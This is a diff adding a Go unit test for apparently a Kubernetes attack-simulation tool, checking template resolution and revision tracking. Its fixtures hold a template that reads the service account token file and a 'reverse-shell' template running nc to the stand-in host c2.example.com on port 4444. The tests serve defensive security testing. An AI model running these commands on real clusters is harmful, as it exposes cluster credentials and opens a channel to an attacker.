@@ -0,0 +1,136 @@
+package scenario
+
+import (
+	"context"
+	"reflect"
+	"testing"
+
+	threatestergithubiov1alpha1 "github.com/mrtc0/threatester/api/v1alpha1"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/utils/pointer"
+	"sigs.k8s.io/controller-runtime/pkg/client/fake"
+)
+
+func TestResolveTemplates(t *testing.T) {
+	scheme := runtime.NewScheme()
+	if err := threatestergithubiov1alpha1.AddToScheme(scheme); err != nil {
+		t.Fatal(err)
+	}
+
+	scenarioTemplate := &threatestergithubiov1alpha1.ScenarioTemplate{
+		ObjectMeta: metav1.ObjectMeta{Name: "read-token", Namespace: "default", Generation: 2},
+		Spec: threatestergithubiov1alpha1.ScenarioTemplateSpec{
+			Parameters: []threatestergithubiov1alpha1.Parameter{
+				{Name: "path", Default: pointer.String("/var/run/secrets/kubernetes.io/serviceaccount/token")},
+			},
+			Container: corev1.Container{Image: "alpine", Command: []string{"cat", "{{ .Params.path }}"}},
+			PodTemplate: &threatestergithubiov1alpha1.PodTemplate{
+				ServiceAccountName: "threatester",
+			},
+		},
+	}
+	clusterScenarioTemplate := &threatestergithubiov1alpha1.ClusterScenarioTemplate{
+		ObjectMeta: metav1.ObjectMeta{Name: "reverse-shell", Generation: 1},
+		Spec: threatestergithubiov1alpha1.ScenarioTemplateSpec{
+			Parameters: []threatestergithubiov1alpha1.Parameter{{Name: "host"}},
+			Container: corev1.Container{
+				Name:  "reverse-shell",
+				Image: "alpine",
+				Args:  []string{"nc", "{{ .Params.host }}", "4444"},
+				Env:   []corev1.EnvVar{{Name: "C2_HOST", Value: "{{ .Params.host }}"}},
+			},
+		},
+	}
+
+	c := fake.NewClientBuilder().WithScheme(scheme).WithObjects(scenarioTemplate, clusterScenarioTemplate).Build()
+
+	newScenario := func(templates ...threatestergithubiov1alpha1.Template) threatestergithubiov1alpha1.Scenario {
+		return threatestergithubiov1alpha1.Scenario{
+			ObjectMeta: metav1.ObjectMeta{Name: "test-scenario", Namespace: "default"},
+			Spec:       threatestergithubiov1alpha1.ScenarioSpec{Templates: templates},
+		}
+	}
+
+	t.Run("resolves namespaced and cluster templates", func(t *testing.T) {
+		scenario := newScenario(
+			threatestergithubiov1alpha1.Template{Name: "token", TemplateRef: &threatestergithubiov1alpha1.TemplateRef{Name: "read-token"}},
+			threatestergithubiov1alpha1.Template{Name: "c2", TemplateRef: &threatestergithubiov1alpha1.TemplateRef{
+				Name:       "reverse-shell",
+				Kind:       threatestergithubiov1alpha1.TemplateKindClusterScenarioTemplate,
+				Parameters: map[string]string{"host": "c2.example.com"},
+			}},
+		)
+
+		resolved, revisions, err := ResolveTemplates(context.Background(), c, scenario)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		token := resolved.Spec.Templates[0]
+		if token.Container.Name != "token" || !reflect.DeepEqual(token.Container.Command, []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}) {
+			t.Errorf("expected the default parameter to be substituted, got %s %v", token.Container.Name, token.Container.Command)
+		}
+
+		if token.PodTemplate == nil || token.PodTemplate.ServiceAccountName != "threatester" {
+			t.Errorf("expected the pod template of the referenced template, got %v", token.PodTemplate)
+		}
+
+		c2 := resolved.Spec.Templates[1]
+		if !reflect.DeepEqual(c2.Container.Args, []string{"nc", "c2.example.com", "4444"}) || c2.Container.Env[0].Value != "c2.example.com" {
+			t.Errorf("expected the parameter to be substituted, got %v %v", c2.Container.Args, c2.Container.Env)
+		}
+
+		expected := []threatestergithubiov1alpha1.TemplateRevision{
+			{Kind: threatestergithubiov1alpha1.TemplateKindClusterScenarioTemplate, Name: "reverse-shell", Generation: 1},
+			{Kind: threatestergithubiov1alpha1.TemplateKindScenarioTemplate, Name: "read-token", Generation: 2},
+		}
+		if !reflect.DeepEqual(revisions, expected) {
+			t.Errorf("expected revisions %v, got %v", expected, revisions)
+		}
+
+		if scenario.Spec.Templates[0].Container != nil {
+			t.Error("expected the scenario not to be modified")
+		}
+	})
+
+	testCases := []struct {
+		name string
+		ref  threatestergithubiov1alpha1.TemplateRef
+	}{
+		{name: "missing template", ref: threatestergithubiov1alpha1.TemplateRef{Name: "missing"}},
+		{name: "cluster template looked up as namespaced", ref: threatestergithubiov1alpha1.TemplateRef{Name: "reverse-shell"}},
+		{name: "missing required parameter", ref: threatestergithubiov1alpha1.TemplateRef{Name: "reverse-shell", Kind: threatestergithubiov1alpha1.TemplateKindClusterScenarioTemplate}},
+		{name: "undeclared parameter", ref: threatestergithubiov1alpha1.TemplateRef{Name: "read-token", Parameters: map[string]string{"unknown": "value"}}},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			ref := tc.ref
+			scenario := newScenario(threatestergithubiov1alpha1.Template{Name: "attack", TemplateRef: &ref})
+
+			if _, _, err := ResolveTemplates(context.Background(), c, scenario); err == nil {
+				t.Error("expected an error")
+			}
+		})
+	}
+}
+
+func TestTemplateRevisionsChanged(t *testing.T) {
+	revision := threatestergithubiov1alpha1.TemplateRevision{Kind: threatestergithubiov1alpha1.TemplateKindScenarioTemplate, Name: "read-token", Generation: 1}
+	updated := revision
+	updated.Generation = 2
+
+	if TemplateRevisionsChanged(nil, []threatestergithubiov1alpha1.TemplateRevision{}) {
+		t.Error("expected no change without templates")
+	}
+
+	if TemplateRevisionsChanged([]threatestergithubiov1alpha1.TemplateRevision{revision}, []threatestergithubiov1alpha1.TemplateRevision{revision}) {
+		t.Error("expected no change for the same revisions")
+	}
+
+	if !TemplateRevisionsChanged([]threatestergithubiov1alpha1.TemplateRevision{revision}, []threatestergithubiov1alpha1.TemplateRevision{updated}) {
+		t.Error("expected a change for an updated template")
+	}
+}